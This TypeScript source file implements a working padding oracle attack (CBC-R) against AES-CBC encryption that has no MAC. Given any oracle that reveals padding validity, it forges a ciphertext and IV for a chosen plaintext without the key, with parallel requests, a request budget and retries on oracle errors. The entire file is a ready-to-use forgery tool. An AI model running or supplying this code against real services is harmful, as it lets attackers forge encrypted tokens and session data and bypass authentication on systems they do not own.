import { randomBytes } from 'node:crypto'

/** A forged ciphertext, or `null` when the budget was used up. */
export interface Forgery {
  readonly blob: { readonly encryptedData: string; readonly iv: string } | null
  readonly requests: number
}

/** Says whether the padding of a ciphertext was right, by whatever its answer gives away. */
type PaddingOracle = (encryptedData: string, iv: string) => Promise<boolean>

interface ForgeOptions {
  readonly oracle: PaddingOracle
  readonly plaintext: string
  /** Requests that may be spent. */
  readonly budget: number
  /** Requests under way at once. */
  readonly lanes?: number
}

class BudgetSpent extends Error {}

/**
 * The attack on AES-CBC without a MAC (Rizzo and Duong, "Practical Padding Oracle Attacks", CBC-R): makes a ciphertext
 * of any plaintext without the key, from the last block to the first. The oracle tells what a block decrypts to, byte
 * by byte, and the block before it, or the iv, is chosen so that the plaintext comes out.
 */
export async function forgeByPaddingOracle({ oracle, plaintext, budget, lanes = 8 }: ForgeOptions): Promise<Forgery> {
  let requests = 0
  // Servers refuse ciphertexts that are too short, so four blocks stand in front of the one that is asked about.
  const front = randomBytes(64)
  const iv = randomBytes(16).toString('base64')

  async function isPadded(before: Buffer, block: Buffer): Promise<boolean> {
    if (requests >= budget) return false
    requests += 1
    return oracle(Buffer.concat([front, before, block]).toString('base64'), iv)
  }

  /** What the cipher makes of a block before the block in front of it is added. */
  async function decrypted(block: Buffer): Promise<Buffer> {
    const known = Buffer.alloc(16)
    for (let at = 15; at >= 0; at -= 1) known[at] = (await guessAt(block, known, at)) ^ (16 - at)
    return known
  }

  async function guessAt(block: Buffer, known: Buffer, at: number): Promise<number> {
    for (let first = 0; first < 256; first += lanes) {
      const guesses = Array.from({ length: Math.min(lanes, 256 - first) }, (_, lane) => first + lane)
      const hits = await Promise.all(guesses.map(guess => isRight(block, known, at, guess)))
      const hit = guesses[hits.indexOf(true)]
      if (hit !== undefined) return hit
      if (requests >= budget) throw new BudgetSpent()
    }
    // The oracle errs: begin again, as whoever attacks would.
    return guessAt(block, known, at)
  }

  async function isRight(block: Buffer, known: Buffer, at: number, guess: number): Promise<boolean> {
    const before = randomBytes(16)
    before[at] = guess
    for (let after = at + 1; after < 16; after += 1) before[after] = (known[after] ?? 0) ^ (16 - at)
    if (!(await isPadded(before, block))) return false
    if (at !== 15) return true
    // The last byte may have made a longer padding by chance: another byte in front of it tells.
    before[14] = (before[14] ?? 0) ^ 0xff
    return isPadded(before, block)
  }

  async function forge(): Promise<{ encryptedData: string; iv: string }> {
    const blocks = [randomBytes(16)]
    for (const part of partsOf(plaintext).reverse()) {
      const [next = Buffer.alloc(16)] = blocks
      const middle = await decrypted(next)
      blocks.unshift(middle.map((byte, at) => byte ^ (part[at] ?? 0)) as Buffer<ArrayBuffer>)
    }
    const [first = Buffer.alloc(16), ...rest] = blocks
    return { iv: first.toString('base64'), encryptedData: Buffer.concat(rest).toString('base64') }
  }

  try {
    return { blob: await forge(), requests }
  } catch (error) {
    if (error instanceof BudgetSpent) return { blob: null, requests }
    throw error
  }
}

/** Blocks of 16 with PKCS#7 padding. */
function partsOf(plaintext: string): Buffer[] {
  const bytes = Buffer.from(plaintext)
  const padding = 16 - (bytes.length % 16)
  const padded = Buffer.concat([bytes, Buffer.alloc(padding, padding)])
  return Array.from({ length: padded.length / 16 }, (_, index) => padded.subarray(16 * index, 16 * index + 16))
}
